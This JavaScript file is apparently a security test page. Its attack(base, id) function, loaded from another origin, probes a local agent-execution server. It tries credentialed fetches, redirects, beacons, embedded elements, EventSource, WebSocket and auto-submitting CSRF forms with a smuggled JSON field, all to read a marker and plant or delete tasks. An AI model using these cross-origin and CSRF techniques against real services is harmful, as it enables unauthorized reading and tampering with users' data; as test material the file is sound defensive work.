// A page of another site, which tries to read and to change what a server on this machine has.
// attack(base, id): the server's address, and a task whose input contains "a private question".
// It returns the ways in which it read something; what it changed, the server knows.

async function attack(base, id) {
  const read = [];
  const tell = (way, text) => { if (String(text).includes("private question")) read.push(way); };
  const soon = (ms) => new Promise((done) => setTimeout(done, ms));
  const tried = async (way, promise) => { try { tell(way, await promise); } catch { /* refused by the browser */ } };
  const shown = async (element) => {
    const loaded = new Promise((done) => { element.onload = element.onerror = () => done(); });
    document.body.append(element);
    await Promise.race([loaded, soon(300)]);
    return element;
  };
  const made = (name, properties) => Object.assign(document.createElement(name), properties);

  const reads = ["/", `/agent-execution/${id}/status`, `/agent-execution/${id}/events?follow=false`,
    "/agent-execution/executions/history", `/ui/tasks/${id}`, `/ui/tasks/${id}/result.html`, "/events/a"];
  const body = JSON.stringify({ input: { text: "planted" }, id: "evil", name: "evil", text: "planted", status: "failed" });
  const writes = [["POST", "/agent-execution/a"], ["POST", `/agent-execution/${id}/retry`], ["POST", "/work"],
    ["POST", `/agent-execution/${id}/messages`], ["POST", `/agent-execution/${id}/signals`], ["POST", "/files?name=x"],
    ["POST", "/keys"], ["POST", "/knowledge_bases/create"], ["POST", "/ui/new"], ["POST", `/ui/tasks/${id}/stop`],
    ["DELETE", `/agent-execution/${id}`], ["PUT", "/agents/evil"], ["PATCH", `/agent-execution/${id}/update`]];
  const types = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""];
  const got = (path, options) =>
    fetch(path, { signal: AbortSignal.timeout(1500), ...options }).then((answer) => answer.text());

  const fetched = [];
  for (const path of reads)
    for (const mode of ["cors", "no-cors", "same-origin"])
      for (const headers of [{}, { "x-api-key": "any" }])
        fetched.push(tried(`fetch ${mode} ${path}`, got(base + path, { mode, headers, credentials: "include" })));
  for (const [method, path] of writes)
    for (const mode of ["cors", "no-cors"])
      for (const type of types)
        fetched.push(tried(`fetch ${method} ${path}`,
          got(base + path, { method, mode, body: new Blob([body], { type }), credentials: "include", keepalive: true })));
  await Promise.all(fetched);
  for (const code of [302, 307, 308])
    for (const [method, path] of [["GET", reads[1]], ["POST", "/agent-execution/a"]])
      await tried(`redirect ${path}`, got(`/redirect?code=${code}&to=${encodeURIComponent(base + path)}`,
        { method, mode: "no-cors", body: method === "GET" ? undefined : body }));

  navigator.sendBeacon(`${base}/agent-execution/a`, new Blob([body], { type: "text/plain" }));
  for (const path of reads) {
    await shown(made("img", { src: base + path }));
    await shown(made("script", { src: base + path }));
    await shown(made("link", { rel: "stylesheet", href: base + path }));
    const frame = await shown(made("iframe", { src: base + path }));
    try { tell(`frame ${path}`, frame.contentDocument.documentElement.outerHTML); } catch { /* another origin */ }
    const canvas = made("canvas", {}).getContext("2d");
    try { canvas.drawImage(document.images[0], 0, 0); tell(`canvas ${path}`, canvas.canvas.toDataURL()); } catch { /* tainted */ }
  }
  const source = new EventSource(`${base}${reads[2]}`, { withCredentials: true });
  source.onmessage = (event) => tell("EventSource", event.data);
  for (const name of ["task_created", "task_updated"]) source.addEventListener(name, (event) => tell("EventSource", event.data));
  const socket = new WebSocket(`${(base || location.origin).replace("http", "ws")}/events/a`);
  socket.onopen = () => socket.send(body);
  socket.onmessage = (event) => tell("WebSocket", event.data);

  for (const [, path] of writes)
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
      for (const sandbox of [null, "allow-forms allow-scripts"]) {
        const form = `<form method=post enctype="${enctype}" action="${base || location.origin}${path}">`
          + `<input name='{"input":{"text":"planted' value='"},"x":""}'></form><script>document.forms[0].submit()</script>`;
        const frame = made("iframe", { srcdoc: form });
        if (sandbox !== null) frame.sandbox = sandbox;
        document.body.append(frame);
      }
  const opened = window.open(`${base}/ui/tasks/${id}`);
  await soon(1500);
  try { tell("window", opened.document.documentElement.outerHTML); } catch { /* another origin */ }
  source.close();
  socket.close();
  return read;
}
